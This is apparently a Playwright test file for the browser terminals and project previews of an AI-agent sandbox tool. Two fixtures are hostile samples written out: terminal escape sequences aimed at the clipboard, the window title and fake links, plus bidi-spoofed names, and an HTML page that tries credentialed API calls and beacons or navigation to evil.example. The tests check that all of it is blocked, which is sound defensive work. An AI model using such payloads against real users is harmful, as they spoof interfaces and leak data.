"""Terminals and previews of a variation's sandbox in a browser, with hostile output."""

import asyncio
import json
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import pytest
from playwright.async_api import Browser, Locator, Request, expect

from aideator.testing import scripted_model
from tests.actions import Server, server, stream, submit
from tests.web.test_craft import AXE, violations
from tests.web.visitor import Visitor

ASKED = {"prompt": "Make the failing test pass, please", "variations": 1, "checks": []}


class Bench:
    """The workbench of the first variation, and somebody who works at it."""

    def __init__(self, running: Server, run_id: str, visitor: Visitor) -> None:
        self.server, self.run_id, self.visitor = running, run_id, visitor
        self.page = visitor.page
        self.region = self.page.get_by_role("region", name="Workbench of variation 1")
        self.screen = self.region.locator(".xterm-rows")

    async def opens(self) -> None:
        """Go to the run and ask for a terminal."""
        await self.visitor.goes_to(self.server.url, f"/runs/{self.run_id}")
        await self.page.get_by_role("button", name="Terminal in variation 1").click()
        await self.sees("variation 1:/workspace$")

    async def types(self, keys: str) -> None:
        """Type a line into the terminal that has the keyboard."""
        await expect(
            self.region.get_by_role("textbox", name="Terminal of variation 1")
        ).to_be_focused()
        await self.page.keyboard.type(keys + "\n")

    async def sees(self, text: str) -> None:
        """Wait until the terminal shows something."""
        await expect(self.screen).to_contain_text(text)


@asynccontextmanager
async def working(
    home: Path, repo: Path, visitor: Visitor, scenario: Any = "silent"
) -> AsyncIterator[Bench]:
    """A run of one variation, at work."""
    async with (
        scripted_model(scenario) as model,
        server(home, model.url) as running,
        running.client() as client,
    ):
        run_id = await submit(client, ASKED | {"repo_url": str(repo)})
        yield Bench(running, run_id, visitor)


@asynccontextmanager
async def finished(
    home: Path, repo: Path, visitor: Visitor, scenario: Any = "one_edit"
) -> AsyncIterator[Bench]:
    """A run of one variation, which has ended."""
    async with working(home, repo, visitor, scenario) as bench:
        async with bench.server.client() as client:
            await stream(client, bench.run_id)
        yield bench


async def test_a_command_is_typed_its_output_seen_and_both_are_there_after_a_reload(
    home: Path, repo: Path, visitor: Visitor
) -> None:
    async with finished(home, repo, visitor) as bench:
        await bench.opens()
        await expect(bench.region).to_contain_text(
            "In a copy of variation 1: your changes here are discarded."
        )
        await bench.types("grep return calc.py; echo $((6 * 7))-and-more")
        await bench.sees("return a + b")
        await bench.sees("42-and-more")

        await bench.page.reload()
        await bench.sees("42-and-more")
        await bench.region.get_by_role("textbox").focus()
        await bench.types("stty size; exit 3")
        await expect(bench.region.get_by_role("status")).to_contain_text(
            "exited with 3"
        )
        await bench.region.get_by_role("button", name="Open again").click()
        await bench.sees("variation 1:/workspace$")
        await expect(bench.screen).not_to_contain_text("42-and-more")

        await bench.region.get_by_role("button", name="New terminal").click()
        await expect(
            bench.region.get_by_role("tab", name="Terminal 2")
        ).to_have_attribute("aria-selected", "true")
        await bench.region.get_by_role("button", name="Close the terminal").click()
        await expect(bench.region.get_by_role("tab")).to_have_count(1)
        await expect(bench.region.get_by_role("tab", name="Terminal 1")).to_be_focused()
        await bench.region.get_by_role("button", name="Close the workbench").click()
        await expect(bench.region).to_have_count(0)
        await expect(
            bench.page.get_by_role("button", name="Terminal in variation 1")
        ).to_be_focused()


async def test_the_window_and_what_runs_in_the_terminal_agree_about_its_size(
    home: Path, repo: Path, visitor: Visitor
) -> None:
    async with finished(home, repo, visitor) as bench:
        await bench.opens()
        columns: list[int] = []
        for width, height in ((1300, 900), (900, 700)):
            async with bench.page.expect_request_finished(
                lambda request: request.url.endswith("/size")
            ):
                await bench.page.set_viewport_size({"width": width, "height": height})
            await bench.types(f"clear; stty size; echo $((width = {width}))-wide")
            await bench.sees(f"{width}-wide")
            rows = bench.screen.locator("> div")
            told = [int(part) for part in (await rows.nth(0).inner_text()).split()]
            assert told[0] == await rows.count()
            columns.append(told[1])
        assert columns[0] > columns[1], "a narrower window has fewer columns"


async def test_a_flood_is_stopped_by_hand(
    home: Path, repo: Path, visitor: Visitor
) -> None:
    async with finished(home, repo, visitor) as bench:
        await bench.opens()
        await bench.types("yes $((6 * 7))-again")
        await bench.sees("42-again")
        await bench.page.keyboard.press("Control+c")
        await bench.types("clear; echo $((6 * 7))-is-over")
        await bench.sees("42-is-over")
        await expect(bench.screen).not_to_contain_text("again")


async def test_in_the_agents_own_sandbox_it_ends_with_the_turn(
    home: Path, repo: Path, visitor: Visitor
) -> None:
    async with working(home, repo, visitor) as bench:
        async with bench.server.client() as client:
            desk = f"/runs/{bench.run_id}/variations/1/terminals"
            while (await client.get(desk)).json()["place"] != "agent":  # noqa: ASYNC110 - nothing tells
                await asyncio.sleep(0.05)
        await bench.opens()
        await expect(bench.region).to_contain_text("In the agent's sandbox")
        await bench.types("echo $((6 * 7))-beside-the-agent")
        await bench.sees("42-beside-the-agent")
        await bench.page.get_by_role("button", name="Stop variation 1").click()
        await expect(bench.region.get_by_role("status")).to_contain_text(
            "the agent's turn has ended"
        )


async def test_whoever_uses_the_keyboard_gets_in_and_out_and_letters_stay_letters(
    home: Path, repo: Path, visitor: Visitor
) -> None:
    async with finished(home, repo, visitor) as bench:
        await bench.visitor.goes_to(bench.server.url, f"/runs/{bench.run_id}")
        await expect(
            bench.page.get_by_role("button", name="Terminal in variation 1")
        ).to_be_visible()
        await bench.page.keyboard.press("`")
        await bench.sees("variation 1:/workspace$")
        address = bench.page.url
        await bench.types("echo j1f?t`c`")
        await bench.sees("j1f?t")
        assert bench.page.url == address, "no key has done anything else"
        textbox = bench.region.get_by_role("textbox", name="Terminal of variation 1")
        await expect(textbox).to_have_accessible_description(
            "Ctrl Shift Arrow up leaves the terminal"
        )
        await bench.page.keyboard.press("Tab")
        await expect(textbox).to_be_focused()  # the shell completes with it
        await bench.page.keyboard.press("Control+Shift+ArrowUp")
        await expect(bench.region.get_by_role("tab", name="Terminal 1")).to_be_focused()
        await bench.page.keyboard.press("f")
        await expect(bench.page).to_have_url(f"{address}&focus=1")


HOSTILE = r"""
import sys
out = sys.stdout.write
out("\033]0;Your session has ended\007\033]2;Log in again\007")
out("\033]52;c;c3RvbGVu\007")
out("\033]8;;https://evil.example/\033\\click-me\033]8;;\033\\\n")
out("\033]11;#ff0000\007\033]4;0;#ff0000\007")
out("\033[c\033[>c\033[6n\033[?6n\033[5n\033[?1$p\033[>q\033[18t\033[21t\033]10;?\007\033P$qm\033\\\033Z")
out("a\u202etxt.exe\u2066\u200f\n")
for n in range(1, 100_001):
    out(f"line{n}\n")
"""


async def test_whatever_is_printed_touches_nothing_but_its_screen(
    home: Path, repo: Path, visitor: Visitor
) -> None:
    async with finished(home, repo, visitor, writing("hostile.py", HOSTILE)) as bench:
        page = bench.page
        await page.context.grant_permissions(
            ["clipboard-read", "clipboard-write"], origin=bench.server.url
        )
        await bench.opens()
        await page.evaluate("navigator.clipboard.writeText('mine')")
        title, ground = await page.title(), await background(bench.screen)
        typed: list[str] = []
        page.on(
            "request",
            lambda r: (
                typed.append(r.post_data or "") if r.url.endswith("/input") else None
            ),
        )

        await bench.types("python3 hostile.py | head -3; sleep 1")
        await bench.sees("click-me")
        await expect(bench.screen.locator("> div", has_text="txt.exe")).to_have_text(
            "a⟨U+202E⟩txt.exe⟨U+2066⟩⟨U+200F⟩"
        )
        await bench.types("python3 hostile.py; echo $((6 * 7))-is-the-end")
        await bench.sees("line100000")
        await bench.sees("42-is-the-end")

        assert await page.title() == title
        assert await page.evaluate("navigator.clipboard.readText()") == "mine"
        assert await bench.region.get_by_role("link").count() == 0
        assert await background(bench.screen) == ground
        keys = "".join(json.loads(each)["keys"] for each in typed)
        assert "is-the-end" in keys
        assert "\033" not in keys, "the terminal answers nothing"
        assert await page.evaluate("document.querySelectorAll('*').length") < 3000


async def background(screen: Locator) -> str:
    """The colour behind the text."""
    above = "rows.closest('.xterm-scrollable-element')"
    return str(
        await screen.evaluate(f"rows => getComputedStyle({above}).backgroundColor")
    )


SERVED = """<!doctype html><title>The project's page</title><h1>It works</h1>
<p id="told"></p>
<button onclick="location = 'http://evil.example/?stolen'">Leave</button>
<script>
  const told = text => { document.getElementById("told").textContent += text + "; "; };
  const api = location.ancestorOrigins[0] + "/api/v1/runs";
  fetch(api).then(() => told("read the API"), () => told("no API"));
  fetch(api, {method: "POST", mode: "no-cors", credentials: "include"})
    .then(() => told("wrote"), () => told("no write"));
  fetch("/api/v1/runs").then(answer => told("own origin: " + answer.status));
  new Image().src = "http://evil.example/pixel";
  told(window.open("http://evil.example/") === null ? "no window" : "a window");
  try { top.location = "http://evil.example/"; } catch (error) { told("no way up"); }
</script>
"""
SERVER = "python3 -m http.server 8123 --bind 127.0.0.1"


def writing(path: str, content: str) -> dict[str, Any]:
    """An agent that writes one file."""
    return {
        "lanes": {
            "default": [
                {"calls": [{"write": {"file_path": path, "content": content}}]},
                {"say": "Done."},
            ]
        }
    }


async def test_a_preview_shows_what_the_project_serves(
    home: Path, repo: Path, visitor: Visitor
) -> None:
    async with finished(
        home, repo, visitor, writing("index.html", "<h1>It works</h1>")
    ) as bench:
        visitor.previews = f".localhost:{bench.server.url.rpartition(':')[2]}/"
        await bench.opens()
        await bench.types(f"({SERVER} &); echo http://localhost:$((8000 + 123))/ is up")
        await bench.sees("http://localhost:8123/")
        await bench.region.get_by_role("button", name="New preview").click()
        await bench.region.get_by_role("button", name="localhost:8123").click()
        frame = bench.region.locator("iframe")
        shown = frame.content_frame
        await expect(shown.get_by_role("heading", name="It works")).to_be_visible()

        await bench.region.get_by_role("button", name="Phone 390").click()
        await expect(frame).to_have_css("width", "390px")
        await bench.region.get_by_role("tab", name="Terminal 1").click()
        await bench.region.get_by_role("textbox").focus()
        await bench.types(
            "echo '<h1>Changed</h1>' > index.html; echo $((6 * 7))-written"
        )
        await bench.sees("42-written")
        await bench.region.get_by_role("tab", name="Preview :8123").click()
        await bench.region.get_by_role("button", name="Reload").click()
        await expect(shown.get_by_role("heading", name="Changed")).to_be_visible()
        await bench.page.reload()
        await expect(shown.get_by_role("heading", name="Changed")).to_be_visible()
        await bench.region.get_by_role("button", name="Stop the preview").click()
        await expect(frame).to_have_count(0)


async def test_a_previewed_page_reaches_neither_the_api_nor_another_host(
    home: Path, repo: Path, visitor: Visitor
) -> None:
    async with finished(home, repo, visitor, writing("index.html", SERVED)) as bench:
        visitor.previews = f".localhost:{bench.server.url.rpartition(':')[2]}/"
        foreign: list[Request] = []
        bench.page.on(
            "request", lambda r: foreign.append(r) if "evil.example" in r.url else None
        )
        await bench.opens()
        await bench.region.get_by_role("button", name="New preview").click()
        await bench.region.get_by_label("Port").fill("8123")
        await bench.region.get_by_label("Start command").fill(SERVER)
        await bench.region.get_by_role(
            "button", name="Open preview", exact=True
        ).click()

        shown = bench.region.locator("iframe").content_frame
        for outcome in (
            "no API",
            "no write",
            "own origin: 404",
            "no window",
            "no way up",
        ):
            await expect(shown.locator("#told")).to_contain_text(outcome)
        await shown.get_by_role("button", name="Leave").click()
        await expect(shown.get_by_role("heading", name="It works")).to_have_count(0)
        assert bench.page.url.startswith(f"{bench.server.url}/runs/"), (
            "the page is where it was"
        )
        # The browser names what it was asked for and has refused by the policy: nothing
        # of it has left.
        assert [request.url for request in foreign if request.failure != "csp"] == []
        assert {line.split()[0] for line in visitor.trouble} <= {"console:", "request"}
        visitor.trouble.clear()


@pytest.mark.skipif(not AXE.is_file(), reason="axe-core is not installed: make check")
@pytest.mark.parametrize(("scheme", "width"), [("dark", 1440), ("light", 390)])
async def test_it_is_accessible(
    home: Path, repo: Path, chromium: Browser, scheme: str, width: int
) -> None:
    looks = {
        "color_scheme": scheme,
        "viewport": {"width": width, "height": 844},
        "reduced_motion": "reduce",
    }
    async with (
        Visitor.open(chromium, **looks) as visitor,
        finished(home, repo, visitor) as bench,
    ):
        await bench.opens()
        await bench.types(
            r"printf '\033[3%dmcolour\033[0m ' 0 1 2 3 4 5 6 7; echo $((6 * 7))-painted"
        )
        await bench.sees("42-painted")
        assert await violations(visitor) == []
        await bench.region.get_by_role("button", name="New preview").click()
        await expect(bench.region.get_by_label("Port")).to_be_visible()
        assert await violations(visitor) == []
        assert (
            await visitor.page.evaluate("document.documentElement.scrollWidth") <= width
        )
        assert visitor.trouble == []
